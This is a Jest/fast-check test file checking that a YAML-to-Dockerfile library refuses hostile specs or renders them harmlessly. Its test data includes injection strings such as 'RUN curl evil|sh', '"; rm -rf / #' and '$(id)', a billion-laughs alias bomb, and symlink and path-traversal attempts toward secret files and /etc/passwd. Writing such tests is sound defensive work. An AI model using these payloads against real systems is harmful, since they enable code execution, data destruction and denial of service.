/**
 * Hostile spec files, end to end through the library the action runs (load → plan → build
 * context): whatever a field holds, the result is a SpecError naming the file, the field and a line,
 * or a Dockerfile with exactly the instructions of a harmless spec. Resource attacks (huge files,
 * deep nesting, alias bombs, long strings) end quickly; the file system is never left.
 * (__tests__/docker/property.test.ts covers the Dockerfile renderer on typed values; this file
 * covers the path from YAML text, where quoting and typing happen.)
 */
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import fc from 'fast-check';
import { prepareContext } from '../../src/docker/context';
import { SpecError } from '../../src/errors';
import { planImages } from '../../src/plan/plan';
import { fsDigests } from '../../src/tag/fsDigests';
import { parseDockerfile } from '../docker/dockerfileParse';
import { fcSeed } from '../differential/oracle';

const SEED = fcSeed();
beforeAll(() => console.log(`hostile: seed ${SEED} (IMAGESPEC_FC_SEED=${SEED} reproduces)`));

function workspace(files: Record<string, string | Buffer>): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'hostile-'));
  for (const [rel, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    fs.writeFileSync(path.join(dir, rel), text);
  }
  return dir;
}

type Outcome = { dockerfile: string; contextFiles: string[] } | { error: SpecError };

/** What the action does with one spec file, up to the rendered build context. */
function run(ws: string, specRel = 'spec.yaml'): Outcome {
  const file = { abs: path.join(ws, specRel), rel: specRel, key: path.basename(specRel).replace(/\.ya?ml$/, ''), kind: 'yaml' as const };
  const plan = planImages([file], { cwd: ws, hostMachine: 'x86_64', digests: fsDigests(ws, ws) });
  if (plan.errors.length) return { error: plan.errors[0] };
  try {
    const ctx = prepareContext(plan.images[0], undefined, {
      cwd: ws,
      repoRoot: ws,
      defaultPythonVersion: '3.12',
      flytekitVersion: '1.16.24',
    });
    return { dockerfile: ctx.dockerfile, contextFiles: ctx.files.map((f) => f.src ?? f.dest) };
  } catch (e) {
    if (e instanceof SpecError) return { error: e };
    throw e;
  }
}

function expectNamedError(o: Outcome, field?: RegExp): SpecError {
  if (!('error' in o)) throw new Error(`expected a refusal, got a Dockerfile:\n${o.dockerfile}`);
  expect(o.error.file).toBe('spec.yaml');
  expect(o.error.line).toEqual(expect.any(Number));
  if (field) expect(o.error.field).toMatch(field);
  return o.error;
}

/** Pieces that break YAML, Dockerfiles and shells, plus arbitrary code points. */
const nasty: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      fc.constantFrom(...'\n\r\0\t $`\'"\\;&|<>()#*?[]{}~!=:/.,@+%^-'.split('')),
      fc.constantFrom(
        '$(id)',
        '`id`',
        '${HOME}',
        '&&',
        '\nRUN curl evil|sh',
        '\nUSER root',
        '\\\n',
        '\r\nFROM scratch',
        ' #',
        '--',
        '"; rm -rf / #',
        "'; id; '",
        '\u2028',
        '\x85',
      ),
      fc.constantFrom('numpy', 'debian', 'https://x.io/a', '/usr/bin/python3', 'conda-forge', 'A', 'src'),
      fc.string({ unit: 'binary', maxLength: 3 }),
    ),
    { maxLength: 8 },
  )
  .map((p) => p.join(''));

/** Every string-valued field a hostile author controls, and how it sits in the YAML file. */
const FIELD_TEMPLATES: Record<string, (v: string) => string> = {
  name: (v) => `name: ${JSON.stringify(v)}\n`,
  python_version: (v) => `python_version: ${JSON.stringify(v)}\n`,
  env_value: (v) => `env:\n  A: ${JSON.stringify(v)}\n`,
  env_key: (v) => `env:\n  ${JSON.stringify(v)}: x\n`,
  packages: (v) => `packages:\n  - ${JSON.stringify(v)}\n`,
  conda_packages: (v) => `conda_packages: [${JSON.stringify(v)}]\n`,
  conda_channels: (v) => `conda_channels: [${JSON.stringify(v)}]\n`,
  apt_packages: (v) => `apt_packages: [${JSON.stringify(v)}]\n`,
  base_image: (v) => `base_image: ${JSON.stringify(v)}\n`,
  pip_index: (v) => `pip_index: ${JSON.stringify(v)}\n`,
  pip_extra_index_url: (v) => `pip_extra_index_url: [${JSON.stringify(v)}]\n`,
  pip_extra_args: (v) => `pip_extra_args: ${JSON.stringify(v)}\n`,
  entrypoint: (v) => `entrypoint: [${JSON.stringify(v)}]\n`,
  commands: (v) => `commands: [${JSON.stringify(v)}]\n`,
  python_exec: (v) => `python_exec: ${JSON.stringify(v)}\n`,
  copy: (v) => `copy: [${JSON.stringify(v)}]\n`,
  registry: (v) => `registry: ${JSON.stringify(v)}\n`,
  tag_format: (v) => `tag_format: ${JSON.stringify(v)}\n`,
  builder_config: (v) => `builder_config:\n  uv_image: ${JSON.stringify(v)}\n`,
  platform: (v) => `platform: ${JSON.stringify(v)}\n`,
};

/** The instruction keywords of the harmless version of each spec (a plain word in the field). */
function keywordsOf(df: string): string[] {
  return parseDockerfile(df).map((i) => i.keyword);
}

describe('hostile field values in a spec file', () => {
  const ws = workspace({ 'src/app.py': 'x', 'a.txt': 'a', 'plain.yaml': 'name: spec\n' });
  afterAll(() => fs.rmSync(ws, { recursive: true, force: true }));
  const baseline = new Map<string, string[]>();
  const harmless: Record<string, string> = {
    python_version: '3.11',
    pip_index: 'https://x.io/simple',
    pip_extra_index_url: 'https://x.io/s',
    base_image: 'debian:bookworm-slim',
    copy: 'a.txt',
    registry: 'ghcr.io/x',
    tag_format: '{spec_hash}',
    platform: 'linux/amd64',
    builder_config: 'ghcr.io/astral-sh/uv:0.5.1',
    python_exec: '/usr/bin/python3',
  };

  test.each(Object.keys(FIELD_TEMPLATES))('%s: refused with file, field and line, or rendered with no extra instruction', (field) => {
    const tpl = FIELD_TEMPLATES[field];
    fs.writeFileSync(path.join(ws, 'spec.yaml'), tpl(harmless[field] ?? 'x'));
    const base = run(ws);
    if ('error' in base) throw new Error(`the harmless ${field} spec fails: ${base.error.describe()}`);
    baseline.set(field, keywordsOf(base.dockerfile));
    let rendered = 0;
    fc.assert(
      fc.property(nasty, (v) => {
        fs.writeFileSync(path.join(ws, 'spec.yaml'), tpl(v));
        const o = run(ws);
        if ('error' in o) {
          // YAML-level refusals (a raw U+2028 in the text…) name no field; the rest name theirs.
          expectNamedError(o);
          return;
        }
        rendered++;
        // No value adds, removes or reorders an instruction (commands with only blanks drop their RUN).
        const k = keywordsOf(o.dockerfile);
        if (field === 'commands' && v.trim() === '') expect(k.length).toBe(baseline.get(field)!.length - 1);
        // An empty python_exec is unset (falsy), which selects the micromamba layout instead.
        else if (field === 'python_exec' && v === '')
          expect(k).toEqual(keywordsOf((run(ws, 'plain.yaml') as { dockerfile: string }).dockerfile));
        else expect(k).toEqual(baseline.get(field));
        expect(o.dockerfile).not.toContain('\0');
        expect(o.dockerfile).not.toMatch(/^RUN curl evil|^USER root\b(?![\s\S]*USER flytekit)|^FROM scratch/m);
        // Context files never come from outside the workspace.
        for (const f of o.contextFiles) if (path.isAbsolute(f)) expect(path.relative(ws, f).startsWith('..')).toBe(false);
      }),
      { seed: SEED, numRuns: 150 },
    );
    // Not everything may be refused: the rendering itself must be exercised for lenient fields.
    if (['env_value', 'commands', 'name', 'tag_format'].includes(field)) expect(rendered).toBeGreaterThan(0);
  });
});

describe('resource attacks end fast with a named error', () => {
  const ws = workspace({});
  afterAll(() => fs.rmSync(ws, { recursive: true, force: true }));
  const timed = (yaml: string | Buffer): { o: Outcome; ms: number } => {
    fs.writeFileSync(path.join(ws, 'spec.yaml'), yaml);
    const t = Date.now();
    const o = run(ws);
    return { o, ms: Date.now() - t };
  };

  test.each([
    ['a file over 1 MiB', 'name: x\nenv:\n' + '  K: "' + 'x'.repeat(1100 * 1024) + '"\n', /larger than|limit/],
    ['flow nesting 100,000 deep', 'name: x\nenv: ' + '['.repeat(100_000) + ']'.repeat(100_000) + '\n', /nested more than 64/],
    [
      'block nesting 200 deep',
      'name: x\nbuilder_options:\n' +
        Array.from({ length: 200 }, (_, i) => ' '.repeat(2 * (i + 1)) + `k${i}:\n`).join('') +
        ' '.repeat(402) +
        'v\n',
      /nested more than 64/,
    ],
    [
      'billion laughs',
      'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n' +
        'bcdefghi'
          .split('')
          .map(
            (c, i) =>
              `${c}: &${c} [${Array(9)
                .fill('*' + 'abcdefghi'[i])
                .join(',')}]\n`,
          )
          .join(''),
      /alias/i,
    ],
    [
      'aliases of a long string',
      'x: &s "' + 'y'.repeat(100_000) + '"\nenv: {' + Array.from({ length: 200 }, (_, i) => `k${i}: *s`).join(', ') + '}\n',
      /alias/i,
    ],
    ['a NUL byte', 'name: "x"\nenv: {A: "a\0b"}\n', /unacceptable character|NUL|#x0000/],
    ['invalid UTF-8', Buffer.from([0x6e, 0x61, 0x6d, 0x65, 0x3a, 0x20, 0xff, 0x0a]), /UTF-8/],
  ])('%s', (_n, yaml, message) => {
    const { o, ms } = timed(yaml);
    expect(expectNamedError(o).message).toMatch(message);
    expect(ms).toBeLessThan(3000);
  });

  test('a 200,000-character value is refused on its line; a 4,000-character one renders; both fast', () => {
    const long = timed(`name: x\nenv:\n  A: "${'a'.repeat(200_000)}"\n`);
    expect(expectNamedError(long.o, /^env\.A$/).line).toBe(2);
    expect(long.ms).toBeLessThan(3000);
    const ok = timed(`name: x\nenv:\n  A: "${'a'.repeat(4000)}"\n`);
    if ('error' in ok.o) throw new Error(ok.o.error.describe());
    expect(ok.o.dockerfile).toContain('a'.repeat(4000));
    expect(ok.ms).toBeLessThan(3000);
  });
});

describe('the file system is never left', () => {
  let outside: string;
  beforeAll(() => {
    outside = fs.mkdtempSync(path.join(os.tmpdir(), 'hostile-outside-'));
    fs.writeFileSync(path.join(outside, 'secret.txt'), 'runner secret');
  });
  afterAll(() => fs.rmSync(outside, { recursive: true, force: true }));

  function wsWith(setup: (ws: string) => void, yaml: string): Outcome {
    const ws = workspace({ 'src/app.py': 'x' });
    try {
      setup(ws);
      fs.writeFileSync(path.join(ws, 'spec.yaml'), yaml.replace('REQ', `${path.basename(ws)}-req.txt`).replace('WS', ws));
      return run(ws);
    } finally {
      fs.rmSync(ws, { recursive: true, force: true });
      fs.rmSync(`${ws}-req.txt`, { force: true });
    }
  }

  test.each([
    ['source_root: ..', () => undefined, 'name: x\nsource_root: ..\nsource_copy_mode: ALL\n', /source_root/],
    ['source_root: an absolute path outside', () => undefined, 'name: x\nsource_root: /etc\nsource_copy_mode: ALL\n', /source_root/],
    [
      'source_root: a link to a directory outside',
      (ws: string) => fs.symlinkSync(outside, path.join(ws, 'out')),
      'name: x\nsource_root: out\nsource_copy_mode: ALL\n',
      /source_root/,
    ],
    [
      'a link inside source_root to a file outside',
      (ws: string) => fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(ws, 'src', 'leak.txt')),
      'name: x\nsource_root: src\nsource_copy_mode: ALL\n',
      /source_root/,
    ],
    ['copy: ../', () => undefined, 'name: x\ncopy: ["../"]\n', /copy/],
    ['copy: a path through ..', () => undefined, 'name: x\ncopy: ["src/../../x"]\n', /copy/],
    ['copy: an absolute path', () => undefined, 'name: x\ncopy: ["/etc/passwd"]\n', /copy/],
    [
      'copy: a link to a file outside',
      (ws: string) => fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(ws, 'leak.txt')),
      'name: x\ncopy: [leak.txt]\n',
      /copy/,
    ],
    [
      'copy: a directory holding a link outside',
      (ws: string) => fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(ws, 'src', 'leak.txt')),
      'name: x\ncopy: [src]\n',
      /copy/,
    ],
    [
      'requirements: a link to a file outside',
      (ws: string) => fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(ws, 'r.txt')),
      'name: x\nrequirements: r.txt\n',
      /requirements/,
    ],
    [
      'requirements: a path out through ..',
      (ws: string) => fs.writeFileSync(path.join(ws, '..', `${path.basename(ws)}-req.txt`), 'x'),
      'name: x\nrequirements: ../REQ\n',
      /requirements/,
    ],
    [
      'requirements: a FIFO (flytekit would block reading it)',
      (ws: string) => execFileSync('mkfifo', [path.join(ws, 'pipe')]),
      'name: x\nrequirements: pipe\n',
      /requirements/,
    ],
    ['copy: a FIFO', (ws: string) => execFileSync('mkfifo', [path.join(ws, 'pipe')]), 'name: x\ncopy: [pipe]\n', /copy/],
    [
      'requirements: uv.lock beside a pyproject.toml linking outside',
      (ws: string) => {
        fs.writeFileSync(path.join(ws, 'uv.lock'), 'version = 1\n');
        fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(ws, 'pyproject.toml'));
      },
      'name: x\nrequirements: uv.lock\n',
      /requirements/,
    ],
    [
      'requirements: poetry.lock beside a pyproject.toml that is a FIFO',
      (ws: string) => {
        fs.writeFileSync(path.join(ws, 'poetry.lock'), '# lock\n');
        execFileSync('mkfifo', [path.join(ws, 'pyproject.toml')]);
      },
      'name: x\nrequirements: poetry.lock\n',
      /requirements/,
    ],
  ])('%s is refused, naming the field', (_n, setup, yaml, field) => {
    const o = wsWith(setup, yaml);
    const e = expectNamedError(o, field);
    expect(e.message).not.toContain('runner secret');
  });

  test.each([
    ['a FIFO inside source_root', 'name: x\nsource_root: src\nsource_copy_mode: ALL\n', /source_root/],
    ['a FIFO inside a copied directory', 'name: x\ncopy: [src]\n', /copy/],
  ])('%s is refused without being opened (it would block)', (_n, yaml, field) => {
    const t = Date.now();
    const o = wsWith((ws) => execFileSync('mkfifo', [path.join(ws, 'src', 'pipe')]), yaml);
    expect(expectNamedError(o, field).message).toContain('is a FIFO or device');
    expect(Date.now() - t).toBeLessThan(5000);
  });

  test('a FIFO that .dockerignore excludes from source_root is harmless and left out', () => {
    const o = wsWith((ws) => {
      execFileSync('mkfifo', [path.join(ws, 'src', 'pipe')]);
      fs.writeFileSync(path.join(ws, 'src', '.dockerignore'), 'pipe\n');
    }, 'name: x\nsource_root: "WS/src"\nsource_copy_mode: ALL\n');
    if ('error' in o) throw new Error(o.error.describe());
    expect(o.contextFiles.some((f) => f.endsWith('pipe'))).toBe(false);
  });
});
